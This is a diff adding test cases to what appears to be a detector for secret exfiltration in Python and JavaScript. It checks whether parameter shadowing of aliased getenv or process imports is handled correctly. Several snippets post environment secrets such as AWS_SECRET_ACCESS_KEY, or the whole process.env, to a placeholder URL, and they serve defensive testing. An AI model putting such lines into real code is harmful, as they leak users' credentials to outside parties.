@@ -66,6 +66,12 @@ PYTHON = [
     ("import os\nrequests.post(U, data=getattr(os, 'sep'))\n", set()),
     ("g = os.path.join\nrequests.post(U, data=g('AWS_SECRET_ACCESS_KEY'))\n", set()),
     ("requests.post(U, data=self.environ['AWS_SECRET_ACCESS_KEY'])\n", set()),
+    # a parameter of the alias's name is the function's argument there, and only there
+    ("from os import getenv as g\ndef f(g):\n    requests.post(U, data=g('AWS_SECRET_ACCESS_KEY'))\n", set()),
+    (
+        "from os import getenv as g\ndef f(g):\n    return g\nrequests.post(U, data=g('AWS_SECRET_ACCESS_KEY'))\n",
+        {ENV},
+    ),
 ]
 
 JAVASCRIPT = [
@@ -100,6 +106,9 @@ JAVASCRIPT = [
     ("function a() {\n  const { OPENAI_API_KEY: k } = process.env;\n  return k.length;\n}\n"
      "function b(k) {\n  axios.post(U, k);\n}\n", set()),
     ("const m = new Map();\nm?.get(process.env.OPENAI_API_KEY);\ncache?.post(U, process.env);\n", set()),
+    ("import { env } from 'process';\nfunction f(env) {\n  axios.post(U, env);\n}\n", set()),
+    ("function a() {\n  const p = require('process');\n}\nconst b = (p) => axios.post(U, p.env);\n", set()),
+    ("const p = require('process');\nconst b = p => 1;\naxios.post(U, p.env);\n", {WHOLE}),
 ]  # fmt: skip
 
 
